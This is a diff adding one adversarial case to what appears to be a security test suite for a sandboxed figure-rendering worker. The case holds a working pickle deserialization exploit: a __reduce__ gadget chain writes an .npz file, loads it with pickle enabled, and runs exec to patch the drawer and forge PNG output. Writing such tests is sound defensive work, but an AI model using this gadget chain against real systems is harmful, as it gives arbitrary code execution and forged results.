@@ -634,4 +634,49 @@ os.write(1, b"raw \\xff\\xfe\\n")
 display(Shown())
 raise ValueError("top \\udcff level")
 ''', honest=True),
+    # --- issue 15: a figure snapshot that is not a figure
+    Attack("h42_crafted_figure_snapshot", "replaces figures.snapshot in its worker: the "
+           "snapshot sent for its figure writes an .npz with ndarray.tofile and loads it with "
+           "numpy's pickle, to run code in the drawing worker and forge the PNG (transpose "
+           "honest)", "transpose", '''
+{reference}
+
+
+import io
+import pickle
+
+import matplotlib.pyplot as plt
+import numpy as np
+from numpy.lib.npyio import NpzFile
+
+import dlmath.sealed.figures as figures
+
+FORGE = """
+import dlmath.sealed.figures as f
+f.draw = lambda figure, f=f: f.PNG_SIGNATURE + b"forged"
+"""
+
+
+class Call:  # pickles as function(*args)
+    def __init__(self, function, *args):
+        self.function, self.args = function, args
+
+    def __reduce__(self):
+        return self.function, self.args
+
+    def __call__(self):  # pickle wants a callable where a call goes
+        pass
+
+
+npz = io.BytesIO()
+np.savez(npz, a=np.array([Call(exec, FORGE)], dtype=object))
+payload = np.frombuffer(npz.getvalue(), np.uint8).copy()
+chain = [Call(Call(getattr, payload, "tofile"), "forged.npz"),  # into the drawer's scratch
+         Call(Call(getattr, Call(NpzFile, "forged.npz", True, True), "get"), "a")]  # loaded
+# the chain runs, if at all, while the snapshot is loaded: before any figure is looked at
+figures.snapshot = lambda figure: pickle.dumps(({"chain": chain}, None), protocol=4)
+plt.plot([1, 2, 3])
+plt.show()
+print("shown")
+''', honest=True),
 )
